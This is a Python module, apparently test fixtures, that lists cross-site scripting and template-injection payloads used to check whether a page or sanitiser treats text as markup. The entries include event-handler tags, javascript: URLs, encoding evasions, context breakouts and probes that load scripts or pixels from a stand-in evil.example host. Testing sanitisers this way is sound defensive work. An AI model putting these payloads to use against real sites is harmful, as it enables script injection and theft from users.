"""Texts that would do something where a page took them for more than texts. Each sets a variable of
the page, or leads away from it."""

from __future__ import annotations

from collections.abc import Iterator

RUN = "window.__pwned=1"
EVIL = "http://evil.example"

# Elements that run something by themselves, without anybody's help.
_BY_THEMSELVES = (
    ("img", "src=x", "onerror"),
    ("img", "src=x:y", "onerror"),
    ("image", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("a", "tabindex=1 autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("marquee", "", "onstart"),
    ("iframe", "", "onload"),
    ("object", "data=x", "onerror"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("script", "src=x", "onerror"),
    ("style", "", "onload"),
)

_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<script src={EVIL}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}' /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>press</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></svg>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe src='javascript:parent.{RUN.removeprefix('window.')}'></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<iframe src={EVIL}/></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><button>press</button></form>",
    f"<button formaction='javascript:{RUN}' form=x>press</button>",
    f"<math href='javascript:{RUN}'>press</math>",
    f"<a href='javascript:{RUN}'>press</a>",
    f"<a href=' &#106;avascript:{RUN}'>press</a>",
    f"<a href='java&Tab;script:{RUN}'>press</a>",
    f"<a href='data:text/html,<script>opener.{RUN}</script>'>press</a>",
    f"<area href='javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<base href='{EVIL}/'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css';body{{display:none}}</style>",
    f"<p style='background:url({EVIL}/x.png)'>looks</p>",
    f"<style>@keyframes k{{}}</style><p style='animation-name:k' onanimationstart={RUN}>",
    f"<img src={EVIL}/pixel.png>",
    f"<img srcset='{EVIL}/pixel.png 1x'>",
    f"<template><script>{RUN}</script></template>",
)

# What ends a place that a text may stand in, and goes on as HTML.
_ENDS = (
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "?>",
    "%>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</option></select>",
    "</code></pre>",
    "</td></tr></table>",
    "</button></form>",
    '"}]</script>',
    "\\u0022\\u003e",
)

_ATTRIBUTES = (
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f'"onpointerenter={RUN} ',
    f"x onfocus={RUN} autofocus tabindex=1",
    f'" style="animation-name:k" onanimationstart="{RUN}',
    f'" formaction="javascript:{RUN}',
    f"&quot; onmouseover=&quot;{RUN}",
    f"&#34;&#62;&#60;img src=x onerror={RUN}&#62;",
)

_MARKDOWN = (
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt:{RUN})",
    f"[press](&#x6A;avascript:{RUN})",
    f"[press](java&Tab;script:{RUN})",
    f"[press](<java\\\nscript:{RUN}>)",
    f"[press](vbscript:{RUN})",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'[press](http://a.example/"onmouseover="{RUN})',
    f"[press](x 'title\" onmouseover=\"{RUN}')",
    f"![look](javascript:{RUN})",
    f'![look](x"onerror="{RUN})',
    f'!["onerror="{RUN}](x)',
    f"![look]({EVIL}/pixel.png)",
    f"[press][1]\n\n[1]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"```html\n</code></pre><script>{RUN}</script>\n```",
    f'```" onmouseover="{RUN}\nx\n```',
    f"`</code><script>{RUN}</script>`",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}> {{#id onload={RUN}}}",
    f"> <details open ontoggle={RUN}>",
    f"<div>\n\n**b** <script>{RUN}</script>\n\n</div>",
    f"Setext <svg onload={RUN}>\n===",
)

_DATA = (
    f'"}};{RUN};//',
    f"';{RUN};//",
    f"</script><script>{RUN}//",
    f'{{"__proto__":{{"innerHTML":"<img src=x onerror={RUN}>"}}}}',
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"\u2028{RUN}\u2029",
    f"\u202e<img src=x onerror={RUN}>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "{{ 7 * 191 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{# gone #}",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {RUN} %>",
    "$& $1 $' $`",
)

_URLS = (
    f"javascript:{RUN}",
    f"JAVASCRIPT:{RUN}",
    f" javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"{EVIL}/",
    "//evil.example/",
    "\\\\evil.example\\share",
    f'https://good.example/"onmouseover="{RUN}',
    f"https://good.example/<script>{RUN}</script>",
    "https://good.example@evil.example/",
)


def _handlers() -> Iterator[str]:
    for tag, attributes, handler in _BY_THEMSELVES:
        yield f"<{tag} {attributes} {handler}={RUN}>"
        yield f"<{tag.upper()}/{attributes.replace(' ', '/')}/{handler.upper()}='{RUN}' x"


def _ended() -> Iterator[str]:
    for end in _ENDS:
        yield f"{end}<img src=x onerror={RUN}>"


PAYLOADS = (*_handlers(), *_ELEMENTS, *_ended(), *_ATTRIBUTES, *_MARKDOWN, *_DATA, *_URLS)

RUNNING = (*_handlers(), *_ELEMENTS[:4])
"""Those that run where they are put into a page as they are, in nearly any browser."""
